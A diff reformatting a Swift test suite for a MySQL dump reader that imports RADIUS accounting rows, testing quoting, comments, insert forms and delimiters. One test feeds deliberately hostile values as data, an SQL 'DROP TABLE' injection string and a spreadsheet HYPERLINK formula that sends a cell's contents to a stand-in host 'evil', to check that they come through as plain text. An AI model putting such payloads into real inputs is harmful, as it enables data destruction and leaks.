@@ -1,6 +1,7 @@
 import Foundation
-import Testing
 import TestSupport
+import Testing
+
 @testable import RadacctImport
 
 /// The rows of `dump` read whole and in 1- and 7-byte chunks, which must agree.
@@ -50,19 +51,21 @@ private let create = """
     }
 
     @Test func hostileStringsComeThroughAsExactText() throws {
-        let dump = create + """
-            INSERT INTO `radacct` VALUES (1,'a''),(b','x);y',' \\'quoted\\' '),(2,'line1\\nline2\r\nreal newline','-- not a comment','/* nor this */'),
-            (3,'\\'); DROP TABLE radacct; --','=HYPERLINK("http://evil/?"&A1,"click")','tab\\there\\0nul\\Zsub\\\\back\\%\\_\\b\\r\\"'),
-            (-4,"double ""quoted"" 'single'",'# hash',NULL),(5.50,'',null,'');
-            """
+        let dump =
+            create + """
+                INSERT INTO `radacct` VALUES (1,'a''),(b','x);y',' \\'quoted\\' '),(2,'line1\\nline2\r\nreal newline','-- not a comment','/* nor this */'),
+                (3,'\\'); DROP TABLE radacct; --','=HYPERLINK("http://evil/?"&A1,"click")','tab\\there\\0nul\\Zsub\\\\back\\%\\_\\b\\r\\"'),
+                (-4,"double ""quoted"" 'single'",'# hash',NULL),(5.50,'',null,'');
+                """
         let (_, rows) = try dumpRows(dump)
-        #expect(rows == [
-            ["1", "a'),(b", "x);y", " 'quoted' "],
-            ["2", "line1\nline2\r\nreal newline", "-- not a comment", "/* nor this */"],
-            ["3", "'); DROP TABLE radacct; --", "=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "tab\there\u{0}nul\u{1A}sub\\back\\%\\_\u{8}\r\""],
-            ["-4", "double \"quoted\" 'single'", "# hash", nil],
-            ["5.50", "", nil, ""],
-        ])
+        #expect(
+            rows == [
+                ["1", "a'),(b", "x);y", " 'quoted' "],
+                ["2", "line1\nline2\r\nreal newline", "-- not a comment", "/* nor this */"],
+                ["3", "'); DROP TABLE radacct; --", "=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "tab\there\u{0}nul\u{1A}sub\\back\\%\\_\u{8}\r\""],
+                ["-4", "double \"quoted\" 'single'", "# hash", nil],
+                ["5.50", "", nil, ""],
+            ])
     }
 
     @Test func otherTablesCommentsAndStatementsAreSkipped() throws {
@@ -75,43 +78,45 @@ private let create = """
             DROP TABLE IF EXISTS `radacct`;
             CREATE TABLE `radacct_old` (`a` int, `b` int);
             """ + create + """
-            CREATE TABLE `radcheck` (`id` int, `value` varchar(9));
-            LOCK TABLES `radcheck` WRITE;
-            INSERT INTO `radcheck` VALUES (1,'radacct'),(2,'; INSERT INTO radacct VALUES (7,\\'a\\',\\'b\\',\\'c\\');'),(3,'(((');
-            INSERT INTO `radacct_old` VALUES (1,2);
-            INSERT INTO `radacct_archive` VALUES (99,'zed',999,'q'),(98,'yan',998,'r');
-            INSERT INTO `other`.`radacct_archive` (`radacctid`,`username`,`acctinputoctets`,`note`) VALUES (97,'x',1,'s');
-            INSERT INTO radacctx VALUES (1,2);
-            UNLOCK TABLES;
-            LOCK TABLES `radacct` WRITE;
-            /*!40000 ALTER TABLE `radacct` DISABLE KEYS */;
-            INSERT INTO `radacct` VALUES (1,'alice',100,'n'),/* inline */ (2,'bob',-- trailing comment
-            200,'m');
-            /*!40000 ALTER TABLE `radacct` ENABLE KEYS */;
-            UNLOCK TABLES;
-            SET @a = 'INSERT INTO radacct VALUES (6)';
-            INSERT INTO `radcheck` VALUES (4,'radacct');
-            """
+                CREATE TABLE `radcheck` (`id` int, `value` varchar(9));
+                LOCK TABLES `radcheck` WRITE;
+                INSERT INTO `radcheck` VALUES (1,'radacct'),(2,'; INSERT INTO radacct VALUES (7,\\'a\\',\\'b\\',\\'c\\');'),(3,'(((');
+                INSERT INTO `radacct_old` VALUES (1,2);
+                INSERT INTO `radacct_archive` VALUES (99,'zed',999,'q'),(98,'yan',998,'r');
+                INSERT INTO `other`.`radacct_archive` (`radacctid`,`username`,`acctinputoctets`,`note`) VALUES (97,'x',1,'s');
+                INSERT INTO radacctx VALUES (1,2);
+                UNLOCK TABLES;
+                LOCK TABLES `radacct` WRITE;
+                /*!40000 ALTER TABLE `radacct` DISABLE KEYS */;
+                INSERT INTO `radacct` VALUES (1,'alice',100,'n'),/* inline */ (2,'bob',-- trailing comment
+                200,'m');
+                /*!40000 ALTER TABLE `radacct` ENABLE KEYS */;
+                UNLOCK TABLES;
+                SET @a = 'INSERT INTO radacct VALUES (6)';
+                INSERT INTO `radcheck` VALUES (4,'radacct');
+                """
         let (columns, rows) = try dumpRows(dump)
         #expect(columns == ["radacctid", "username", "acctinputoctets", "note"])
         #expect(rows == [["1", "alice", "100", "n"], ["2", "bob", "200", "m"]])
     }
 
     @Test func insertFormsAndQualifiedNames() throws {
-        let dump = create + """
-            insert into radacct values (1,'a',10,'x');
-            INSERT IGNORE INTO `tollgate`.`RADACCT` VALUES (2,'b',20,'y');
-            REPLACE INTO db.radacct VALUES (3,'c',30,'z');
-            INSERT INTO `radacct` VALUES (4,'d',40,'w') ON DUPLICATE KEY UPDATE note = 'a;b';
-            INSERT INTO `radacct` (`note`, username, `acctinputoctets`, `radacctid`) VALUES ('v','e',50,5),('u','f',60,6);
-            INSERT INTO radacct VALUE (7,_binary 'g',0x3730,X'74'),(8,N'h',+8.5e-1,_utf8mb4'i'),(9,_binary 0x6A,TRUE,FALSE);
-            """
+        let dump =
+            create + """
+                insert into radacct values (1,'a',10,'x');
+                INSERT IGNORE INTO `tollgate`.`RADACCT` VALUES (2,'b',20,'y');
+                REPLACE INTO db.radacct VALUES (3,'c',30,'z');
+                INSERT INTO `radacct` VALUES (4,'d',40,'w') ON DUPLICATE KEY UPDATE note = 'a;b';
+                INSERT INTO `radacct` (`note`, username, `acctinputoctets`, `radacctid`) VALUES ('v','e',50,5),('u','f',60,6);
+                INSERT INTO radacct VALUE (7,_binary 'g',0x3730,X'74'),(8,N'h',+8.5e-1,_utf8mb4'i'),(9,_binary 0x6A,TRUE,FALSE);
+                """
         let (columns, rows) = try dumpRows(dump)
         #expect(columns == ["radacctid", "username", "acctinputoctets", "note"])
-        #expect(rows == [
-            ["1", "a", "10", "x"], ["2", "b", "20", "y"], ["3", "c", "30", "z"], ["4", "d", "40", "w"],
-            ["5", "e", "50", "v"], ["6", "f", "60", "u"], ["7", "g", "70", "t"], ["8", "h", "8.5e-1", "i"], ["9", "j", "1", "0"],
-        ])
+        #expect(
+            rows == [
+                ["1", "a", "10", "x"], ["2", "b", "20", "y"], ["3", "c", "30", "z"], ["4", "d", "40", "w"],
+                ["5", "e", "50", "v"], ["6", "f", "60", "u"], ["7", "g", "70", "t"], ["8", "h", "8.5e-1", "i"], ["9", "j", "1", "0"],
+            ])
     }
 
     @Test func columnListWithoutCreateTable() throws {
@@ -130,7 +135,7 @@ private let create = """
 
     @Test func latin1BytesAreRepairedAndUTF8Kept() throws {
         var bytes = Array((create + "INSERT INTO radacct VALUES (1,'Jos").utf8)
-        bytes += [0xE9]  // é in latin1
+        bytes += [0xE9] // é in latin1
         bytes += Array("',1,'Zoë".utf8) + [0xFF, 0xC3] + Array("');".utf8)
         for chunkSize in [3, 65_536] {
             var reader = MySQLDumpReader(bytes: bytes, chunkSize: chunkSize)
@@ -139,12 +144,13 @@ private let create = """
     }
 
     @Test func delimiterCommandsAreFollowed() throws {
-        let dump = create + """
-            DELIMITER ;;
-            CREATE TRIGGER t BEFORE INSERT ON radcheck FOR EACH ROW BEGIN INSERT INTO radacct VALUES (9,'t',9,'t'); END ;;
-            DELIMITER ;
-            INSERT INTO radacct VALUES (1,'a',1,'a');
-            """
+        let dump =
+            create + """
+                DELIMITER ;;
+                CREATE TRIGGER t BEFORE INSERT ON radcheck FOR EACH ROW BEGIN INSERT INTO radacct VALUES (9,'t',9,'t'); END ;;
+                DELIMITER ;
+                INSERT INTO radacct VALUES (1,'a',1,'a');
+                """
         let (_, rows) = try dumpRows(dump)
         #expect(rows == [["1", "a", "1", "a"]])
     }
